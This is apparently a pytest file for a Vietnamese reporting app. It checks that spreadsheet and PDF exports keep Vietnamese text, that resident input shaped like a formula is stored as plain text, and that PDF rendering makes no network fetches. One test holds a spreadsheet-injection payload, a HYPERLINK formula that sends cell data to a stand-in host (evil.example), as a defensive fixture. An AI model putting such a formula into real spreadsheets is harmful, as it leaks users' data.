"""The shared report files open in the tools offices use, Vietnamese intact."""

from __future__ import annotations

import contextlib
import datetime as dt
import re
import zlib
from io import BytesIO

import pytest
from django.template import engines
from openpyxl import load_workbook

from caunoi.reports.pdf import render_pdf
from caunoi.reports.xlsx import Sheet, workbook_bytes


def test_a_workbook_keeps_vietnamese_text_and_shows_local_time():
    at = dt.datetime(2026, 11, 27, 1, 30, tzinfo=dt.UTC)
    data = workbook_bytes(
        [Sheet("Kiến nghị theo xã", ["Xã/phường", "Số kiến nghị", "Lúc"], [["Phường Hà Giang 1", 12, at]])]
    )
    sheet = load_workbook(BytesIO(data))["Kiến nghị theo xã"]
    assert [c.value for c in sheet[1]] == ["Xã/phường", "Số kiến nghị", "Lúc"]
    assert sheet["A2"].value == "Phường Hà Giang 1"
    assert sheet["B2"].value == 12
    assert sheet["C2"].value == dt.datetime(2026, 11, 27, 8, 30)  # UTC+7
    assert sheet.freeze_panes == "A2"


def test_a_residents_text_that_looks_like_a_formula_stays_text():
    hostile = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
    data = workbook_bytes([Sheet("Kiến nghị", ["Nội dung"], [[hostile], ["=1+1"]])])

    sheet = load_workbook(BytesIO(data))["Kiến nghị"]
    assert (sheet["A2"].value, sheet["A2"].data_type) == (hostile, "s")
    assert (sheet["A3"].value, sheet["A3"].data_type) == ("=1+1", "s")


def _inflated(pdf: bytes) -> bytes:
    """The PDF with its compressed streams (where object streams keep font names) inflated."""
    parts = [pdf]
    for match in re.finditer(rb"stream\r?\n(.*?)\r?\nendstream", pdf, re.S):
        with contextlib.suppress(zlib.error):
            parts.append(zlib.decompress(match.group(1)))
    return b"".join(parts)


def test_a_pdf_embeds_the_shipped_font(tmp_path, settings):
    template = tmp_path / "cert.html"
    template.write_text(
        '{% extends "reports/document.html" %}{% block body %}<h1>Giấy chứng nhận</h1>'
        "<p>Đồng chí Vàng Thị Mai đã hoàn thành khoá học ẩ ặ ự ỵ Đ Ư Ơ</p>{% endblock %}",
        encoding="utf-8",
    )
    settings.TEMPLATES = [{**settings.TEMPLATES[0], "DIRS": [*settings.TEMPLATES[0]["DIRS"], tmp_path]}]
    engines._engines = {}  # type: ignore[attr-defined]  # the template dirs changed
    try:
        pdf = render_pdf("cert.html", {})
    finally:
        engines._engines = {}  # type: ignore[attr-defined]
    assert pdf.startswith(b"%PDF")
    assert b"+CauNoiSans" in _inflated(pdf)  # the shipped font (our family name), not a system fallback


def test_a_pdf_never_fetches_from_the_network(tmp_path, settings):
    template = tmp_path / "leak.html"
    template.write_text(
        '{% extends "reports/document.html" %}{% block body %}<img src="http://127.0.0.1:9/x.png">'
        "<p>Xin chào</p>{% endblock %}",
        encoding="utf-8",
    )
    settings.TEMPLATES = [{**settings.TEMPLATES[0], "DIRS": [*settings.TEMPLATES[0]["DIRS"], tmp_path]}]
    engines._engines = {}  # type: ignore[attr-defined]
    try:
        pdf = render_pdf("leak.html", {})
    finally:
        engines._engines = {}  # type: ignore[attr-defined]
    assert pdf.startswith(b"%PDF")  # the image is skipped (WeasyPrint logs it), the document still renders


pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")
